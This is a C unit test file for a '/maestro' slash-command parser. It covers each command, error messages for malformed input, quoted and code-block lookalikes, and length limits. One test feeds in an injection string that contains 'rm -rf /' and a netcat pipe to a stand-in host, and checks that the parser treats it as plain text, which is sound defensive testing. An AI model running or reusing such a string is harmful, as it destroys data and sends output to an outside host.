/* Unit tests for model/slash: every command, reasons, mistakes and their replies,
 * code blocks and quotes, limits. */
#include <stdlib.h>
#include <string.h>

#include "model/slash.h"
#include "testutil.h"
#include "util/error.h"

static mc_slash_parse parse(const char *body)
{
	mc_slash_parse p;

	ck_assert_int_eq(mc_slash_parse_comment(&p, body, strlen(body), -3, 20), 0);
	return p;
}

START_TEST(each_command_parses)
{
	mc_slash_parse p = parse("Thanks!\n"
				 "/maestro priority raise customer escalation #123\n"
				 "  /MAESTRO Priority DROP   waiting on design  \r\n"
				 "/maestro priority set -2 not this sprint\n"
				 "/maestro hold audit of the payment path\n"
				 "/maestro unhold audit done\n"
				 "/maestro recompute\n"
				 "/maestro explain\n"
				 "/maestro help\n"
				 "/maestro canary\n"
				 "/maestro offer {\"taskId\":\"t1\"}\n");

	ck_assert_uint_eq(p.n, 10);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_PRIORITY_RAISE);
	ck_assert_str_eq(p.commands[0].reason, "customer escalation #123");
	ck_assert_uint_eq(p.commands[0].line, 2);
	ck_assert_int_eq(p.commands[1].kind, MC_SLASH_PRIORITY_DROP);
	ck_assert_str_eq(p.commands[1].reason, "waiting on design");
	ck_assert_int_eq(p.commands[2].kind, MC_SLASH_PRIORITY_SET);
	ck_assert_int_eq(p.commands[2].value, -2);
	ck_assert_str_eq(p.commands[2].reason, "not this sprint");
	ck_assert_int_eq(p.commands[3].kind, MC_SLASH_HOLD);
	ck_assert_int_eq(p.commands[4].kind, MC_SLASH_UNHOLD);
	ck_assert_int_eq(p.commands[5].kind, MC_SLASH_RECOMPUTE);
	ck_assert_int_eq(p.commands[6].kind, MC_SLASH_EXPLAIN);
	ck_assert_int_eq(p.commands[7].kind, MC_SLASH_HELP);
	ck_assert_int_eq(p.commands[8].kind, MC_SLASH_CANARY);
	ck_assert_int_eq(p.commands[9].kind, MC_SLASH_OFFER);
	ck_assert_str_eq(p.commands[9].argument, "{\"taskId\":\"t1\"}");
	ck_assert_str_eq(mc_slash_kind_name(p.commands[2].kind), "priority set");
	mc_slash_parse_free(&p);
}
END_TEST

static void expect_invalid(const char *body, const char *needle)
{
	mc_slash_parse p = parse(body);

	ck_assert_uint_eq(p.n, 1);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_INVALID);
	ck_assert_msg(strstr(p.commands[0].error, needle), "'%s': error '%s' lacks '%s'", body,
		      p.commands[0].error, needle);
	mc_slash_parse_free(&p);
}

START_TEST(mistakes_get_a_reply_that_says_what_works)
{
	expect_invalid("/maestro priority raise", "a reason is required");
	expect_invalid("/maestro priority raise    \t ", "a reason is required");
	expect_invalid("/maestro hold", "`/maestro hold <reason>`");
	expect_invalid("/maestro unhold", "reason is required");
	expect_invalid("/maestro priorty raise x", "did you mean `/maestro priority`");
	expect_invalid("/maestro priority rasie x", "did you mean `/maestro priority raise`");
	expect_invalid("/maestro priority", "needs raise, drop or set");
	expect_invalid("/maestro priority set high because", "whole number from -3 to 20");
	expect_invalid("/maestro priority set 21 too much", "whole number from -3 to 20");
	expect_invalid("/maestro priority set 99999999999999999999 x", "whole number");
	expect_invalid("/maestro priority set 3", "a reason is required");
	expect_invalid("/maestro", "no command after /maestro");
	expect_invalid("/maestro deploy-to-prod now", "`/maestro help` lists");
	expect_invalid("/maestro offer", "takes the offer as JSON");
	expect_invalid("/maestro hold bad\x01reason", "control character");
	expect_invalid("/maestro hold bad \xff\xfe", "not valid UTF-8");
}
END_TEST

START_TEST(shell_metacharacters_are_just_text)
{
	mc_slash_parse p = parse("/maestro hold $(rm -rf /); `id` | nc evil 1 && echo ${HOME} > x");

	ck_assert_uint_eq(p.n, 1);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_HOLD);
	ck_assert_str_eq(p.commands[0].reason, "$(rm -rf /); `id` | nc evil 1 && echo ${HOME} > x");
	mc_slash_parse_free(&p);
}
END_TEST

START_TEST(quotes_code_blocks_and_lookalikes_are_not_commands)
{
	mc_slash_parse p = parse("> /maestro hold quoted from someone else\n"
				 "```\n/maestro hold inside a code block\n```\n"
				 "   ~~~sh\n/maestro recompute\n~~~\n"
				 "/maestrox hold not us\n"
				 "please run /maestro recompute\n"
				 "/maestro explain\n");

	ck_assert_uint_eq(p.n, 1);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_EXPLAIN);
	ck_assert_uint_eq(p.commands[0].line, 10);
	mc_slash_parse_free(&p);
}
END_TEST

START_TEST(limits)
{
	size_t big = MC_SLASH_COMMENT_MAX;
	char *body = malloc(big + 2);
	mc_slash_parse p;

	/* Many commands: the first ten count, the rest are reported as ignored. */
	p = parse("/maestro help\n/maestro help\n/maestro help\n/maestro help\n/maestro help\n"
		  "/maestro help\n/maestro help\n/maestro help\n/maestro help\n/maestro help\n"
		  "/maestro help\n/maestro help\n");
	ck_assert_uint_eq(p.n, MC_SLASH_MAX_COMMANDS);
	ck_assert_uint_eq(p.ignored, 2);
	mc_slash_parse_free(&p);

	/* A 1 MB comment is read; a longer one is refused. One long command line. */
	memset(body, 'x', big);
	memcpy(body, "/maestro hold ", 14);
	ck_assert_int_eq(mc_slash_parse_comment(&p, body, big, -3, 20), 0);
	ck_assert_uint_eq(p.n, 1);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_INVALID);
	ck_assert_ptr_nonnull(strstr(p.commands[0].error, "keep it under"));
	ck_assert_uint_eq(strlen(p.commands[0].text), MC_SLASH_LINE_MAX);
	mc_slash_parse_free(&p);
	ck_assert_int_eq(mc_slash_parse_comment(&p, body, big + 1, -3, 20), MC_ELIMIT);

	/* A reason over the limit on a line within it. */
	memset(body, 'r', 6000);
	memcpy(body, "/maestro hold ", 14);
	ck_assert_int_eq(mc_slash_parse_comment(&p, body, 6000, -3, 20), 0);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_INVALID);
	ck_assert_ptr_nonnull(strstr(p.commands[0].error, "reason is"));
	mc_slash_parse_free(&p);

	/* A NUL byte in a command line. */
	ck_assert_int_eq(mc_slash_parse_comment(&p, "/maestro hold a\0b", 17, -3, 20), 0);
	ck_assert_int_eq(p.commands[0].kind, MC_SLASH_INVALID);
	mc_slash_parse_free(&p);
	free(body);

	ck_assert_ptr_nonnull(strstr(mc_slash_help(), "/maestro priority set <n> <reason>"));
}
END_TEST

int main(void)
{
	Suite *s = suite_create("slash");
	TCase *tc = tcase_create("slash");

	tcase_add_test(tc, each_command_parses);
	tcase_add_test(tc, mistakes_get_a_reply_that_says_what_works);
	tcase_add_test(tc, shell_metacharacters_are_just_text);
	tcase_add_test(tc, quotes_code_blocks_and_lookalikes_are_not_commands);
	tcase_add_test(tc, limits);
	suite_add_tcase(s, tc);
	return mc_test_run(s);
}
